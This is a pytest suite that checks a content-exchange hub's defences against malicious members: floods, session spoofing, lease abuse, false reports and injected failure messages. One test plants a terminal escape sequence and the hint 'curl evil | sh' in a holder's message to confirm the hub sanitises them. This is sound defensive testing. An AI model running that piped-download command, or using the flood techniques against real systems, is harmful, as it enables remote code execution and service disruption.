"""Members with real keys who want the hub, or another member, to come to harm."""

from __future__ import annotations

import asyncio
import os
import time
from pathlib import Path

import pytest
from tests.servers.grid import Content, Grid, Peer, running_grid, until

from entrepot.core import subjects
from entrepot.core.errors import Internal, RetryLater
from entrepot.core.exchange.settings import ExchangeSettings
from entrepot.core.identifiers import Opening
from entrepot.core.lock import SchemaLock
from entrepot.core.messages import (
    MAX_PARTS,
    Ack,
    Added,
    Bad,
    Done,
    Many,
    Message,
    Offer,
    Open,
    OpenReply,
    Reason,
    Said,
    Want,
    WantReply,
    decode,
    encode,
)
from entrepot_hub.core.restraint import RATES
from entrepot_hub.services import dispatcher
from entrepot_hub.services.arbiter import STRIKES
from entrepot_hub.services.exchange import WANTS


async def served(grid: Grid, content: Content, reader: Peer, holder: Peer, number: int = 0) -> None:
    """An honest reader gets an object that an honest holder uploads."""
    await reader.follow(content.lock.channel, content.stream)
    await reader.want(content, ranges=((number, number),))
    await holder.offer(content, await holder.sought(content))
    grant = await until(lambda: next((g for g in holder.grants if g.stream == content.stream.raw), None))
    assert grant is not None
    await holder.upload(content, grant)

    def ready() -> bool:
        state = reader.state(number)
        return state is not None and state.state == "ready"

    await until(ready)


def want(peer: Peer, lock: SchemaLock, stream: bytes, ranges: tuple[tuple[int, int], ...] = ((0, 63),)) -> Want:
    """A want of any stream."""
    return Want(lock=lock.id, stream=stream, session=peer.session, ranges=ranges, window=64, deadline=60_000)


@pytest.mark.parametrize("length", [2**63 - 1, 2**50], ids=["longest", "long"])
async def test_a_stream_of_impossible_length_stops_nothing(grid: Grid, lock: SchemaLock, length: int) -> None:
    """An id may bind a length that no lock can cut into objects: its offer is refused and the hub's timer goes on."""
    attacker, reader, holder = await grid.peer("attacker"), await grid.peer("reader"), await grid.peer("holder")
    opening = Opening(length, os.urandom(32))
    stream = opening.stream_id()
    assert (await attacker.ask("demo", "want", want(attacker, lock, stream.raw), WantReply)).error is None
    offer = Offer(
        lock=lock.id, stream=stream.raw, session=attacker.session, opening=opening.encode(), ranges=((0, 9),), slots=4
    )
    assert attacker.bus is not None
    assert grid.hub is not None
    await attacker.bus.publish(subjects.hub_offer("demo", grid.hub.instance, attacker.node), encode(offer))
    added = Added(lock=lock.id, session=attacker.session, streams=((stream.raw, opening.encode()),))
    told = await attacker.ask("demo", "added", added, Ack)
    assert told.error is not None
    assert told.error.kind == "unsupported"
    await served(grid, Content(os.urandom(1000), lock), reader, holder)


async def test_the_timer_outlives_trouble(grid: Grid, content: Content, monkeypatch: pytest.MonkeyPatch) -> None:
    """A tick of the rounds that fails, by a database that is away or by our mistake, is not the last one."""
    assert grid.hub is not None
    arbiter = grid.hub._arbiter
    tick = arbiter.tick
    failed: list[bool] = []

    async def failing() -> float | None:
        if len(failed) < 2:
            failed.append(True)
            raise RetryLater("the database is away") if len(failed) == 1 else Internal("a mistake")
        return await tick()

    monkeypatch.setattr(arbiter, "tick", failing)
    arbiter.woken.set()
    await until(lambda: len(failed) == 2)
    await served(grid, content, await grid.peer("reader"), await grid.peer("holder"))


async def test_proposals_that_met_no_database_are_made_again(
    grid: Grid, content: Content, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A grant that could not be written is not forgotten: the object is proposed again."""
    assert grid.hub is not None
    ledger = grid.hub._exchange._ledger
    grant = ledger.grant
    failed: list[bool] = []

    def failing(*arguments: object) -> object:
        if not failed:
            failed.append(True)
            raise RetryLater("the database is away", kind="busy")
        return grant(*arguments)  # type: ignore[arg-type]

    monkeypatch.setattr(ledger, "grant", failing)
    await served(grid, content, await grid.peer("reader"), await grid.peer("holder"))
    assert failed


async def test_one_member_cannot_silence_the_others(grid: Grid, lock: SchemaLock) -> None:
    """Twenty thousand messages of one member wait for each other; another member's want is answered meanwhile."""
    attacker, reader, holder = await grid.peer("attacker"), await grid.peer("reader"), await grid.peer("holder")
    assert attacker.bus is not None
    message = Open(lock=lock.id, session=attacker.session)
    flood: list[tuple[str, Message]] = [("open", message)] * 5000
    flood += [("want", want(attacker, lock, b"\xff" + os.urandom(31))) for _ in range(5000)]
    for verb, said in flood:
        await attacker.bus.publish(subjects.hub_verb("demo", verb, attacker.node), encode(said))
    async with asyncio.timeout(10):
        await served(grid, Content(os.urandom(1000), lock), reader, holder)


async def test_many_messages_in_one_earn_a_member_nothing(
    grid: Grid, lock: SchemaLock, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Batches of a member whose rate is used up are not even read: it is heard as often as it may be, an honest member
    is answered meanwhile, and the hub stays on its bus."""
    attacker, reader = await grid.peer("attacker", hear=False), await grid.peer("reader", hear=False)
    assert attacker.bus is not None
    assert grid.hub is not None
    connects = grid.hub._dispatcher._bus.stats.connects
    read = 0

    def counting[M: Message](kind: type[M], data: bytes) -> M:
        nonlocal read
        message = decode(kind, data)
        read += len(message.parts) if isinstance(message, Many) else 0
        return message

    monkeypatch.setattr(dispatcher, "decode", counting)
    flood = encode(Many(parts=(Said(verb="got", payload=b""),) * MAX_PARTS))
    subject, count = subjects.hub_verb("demo", "asks", attacker.node), 2000
    began = time.monotonic()
    for _ in range(count):
        await attacker.bus.publish(subject, flood)
    await attacker.bus.flush()
    answer = await reader.ask("demo", "open", Open(lock=lock.id, session=reader.session), OpenReply)
    assert answer.error is None
    await until(lambda: read + grid.hub._dispatcher.dropped >= count, 60.0)  # type: ignore[union-attr]
    rate = RATES["tell"]
    assert 0 < read <= rate.burst + MAX_PARTS + rate.each_second * (time.monotonic() - began)
    assert grid.hub._dispatcher._bus.stats.connects == connects


async def test_a_member_wants_so_many_streams_and_no_more(grid: Grid, lock: SchemaLock) -> None:
    """Wants of random streams end at the limit, with a reason that passes; a cancelled one makes room."""
    attacker = await grid.peer("attacker", hear=False)
    assert grid.hub is not None
    exchange = grid.hub._exchange
    streams = exchange._wanted.setdefault(("demo", attacker.node), {})
    forever = exchange._clock() + 1000
    streams.update({b"\xff" + number.to_bytes(31): forever for number in range(WANTS)})
    refused = await attacker.ask("demo", "want", want(attacker, lock, b"\xff" + os.urandom(31)), WantReply)
    assert refused.error is not None
    assert refused.error.kind == "busy"
    streams[next(iter(streams))] = 0.0  # over
    assert (await attacker.ask("demo", "want", want(attacker, lock, b"\xff" + os.urandom(31)), WantReply)).error is None


async def test_offers_of_made_up_sessions_do_not_pile_up(grid: Grid, content: Content) -> None:
    """One key that offers under two hundred sessions has at most a handful of offers in the round."""
    attacker, reader = await grid.peer("attacker"), await grid.peer("reader")
    await reader.want(content)
    seek = await attacker.sought(content)
    for _ in range(200):
        attacker.session = os.urandom(8).hex()
        await attacker.offer(content, seek, slots=0)
    assert (await attacker.ask("demo", "open", Open(lock=content.lock.id, session=attacker.session), OpenReply)).v == 1
    assert grid.hub is not None
    found = grid.hub._arbiter.rounds._rounds["demo", content.stream.raw]
    await until(lambda: grid.hub is not None and grid.hub.handled >= 200)
    await until(lambda: found.offers)
    assert {node for node, _ in found.offers} == {attacker.node}
    assert len(found.offers) <= 8


async def test_repeated_accepts_hold_no_object(tmp_path: Path) -> None:
    """Who accepts again and again, and sends nothing, loses the lease as if it had accepted once."""
    async with running_grid(tmp_path, ExchangeSettings(lease=1.0)) as grid:
        content = Content(os.urandom(1000), await grid.channel("demo"))
        attacker, reader = await grid.peer("attacker"), await grid.peer("reader")
        await reader.want(content)
        await attacker.offer(content, await attacker.sought(content))
        grant = await attacker.granted(0)
        first = await attacker.accept(content, grant)
        assert first.put is not None
        async with asyncio.timeout(10):
            while (again := await attacker.accept(content, grant)).put is not None:
                assert again.lease <= first.lease
                await asyncio.sleep(0.1)
        assert again.error is not None
        assert again.error.kind == "stale-grant"


async def test_an_accept_needs_the_header(grid: Grid, content: Content) -> None:
    """Who knows the opening only, and not the object, gets no URL: the header may not be left out."""
    attacker, reader = await grid.peer("attacker"), await grid.peer("reader")
    await reader.want(content, ranges=((0, 0),))
    await attacker.offer(content, await attacker.sought(content))
    reply = await attacker.accept(content, await attacker.granted(0), header=b"")
    assert reply.put is None
    assert reply.error is not None


async def test_another_session_of_the_same_node_cannot_accept(grid: Grid, content: Content) -> None:
    """A grant is one session's: a second process with the same key that overheard it gets no URL."""
    holder, reader = await grid.peer("holder"), await grid.peer("reader")
    await reader.want(content, ranges=((0, 0),))
    await holder.offer(content, await holder.sought(content))
    grant = await holder.granted(0)
    mine, holder.session = holder.session, os.urandom(8).hex()
    reply = await holder.accept(content, grant)
    assert reply.error is not None
    assert reply.error.kind == "stale-grant"
    holder.session = mine
    await holder.upload(content, grant)


async def test_false_reports_are_soon_looked_into_no_more(
    grid: Grid, content: Content, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A member that calls good objects bad has the hub read the bucket a few times, not as often as it likes."""
    holder, reader = await grid.peer("holder"), await grid.peer("reader")
    await served(grid, content, reader, holder)
    assert grid.hub is not None
    keeper = grid.hub._exchange._keeper
    verify, looks = keeper.verify, []

    async def counted(*arguments: object) -> object:
        looks.append(arguments)
        return await verify(*arguments)  # type: ignore[arg-type]

    monkeypatch.setattr(keeper, "verify", counted)
    bad = Bad(lock=content.lock.id, stream=content.stream.raw, number=0, miniblock=1)
    for _ in range(STRIKES + 10):
        await reader.ask("demo", "bad", bad, Ack)
    assert len(looks) == STRIKES


async def test_a_holders_words_are_no_word_of_the_hub(grid: Grid, content: Content) -> None:
    """What a holder says of its failure reaches readers as the holder's words: without advice, data, control
    characters, or a kind that would end a get."""
    attacker, reader = await grid.peer("attacker"), await grid.peer("reader")
    await reader.want(content, ranges=((0, 0),))
    await attacker.offer(content, await attacker.sought(content))
    for turn in range(2):
        seen = len(attacker.grants)
        grant = await attacker.granted(0, max(seen - 1, 0) if turn == 0 else seen)
        assert (await attacker.accept(content, grant)).put is not None
        said = Reason(kind="revoked", message="\x1b[2Jyou are revoked", hint="curl evil | sh", data={"node": "x"})
        await attacker.ask("demo", "done", Done(lock=content.lock.id, grant=grant.grant, error=said), Ack)

    async def reason() -> Reason | None:
        return (await reader.want(content, ranges=((0, 0),))).reason

    async with asyncio.timeout(10):
        while (told := await reason()) is None or told.kind != "holder-too-slow":
            await asyncio.sleep(0.05)
    assert told.message.startswith("the holder could not upload it: ")
    assert "\x1b" not in told.message
    assert told.hint is None
    assert not told.data
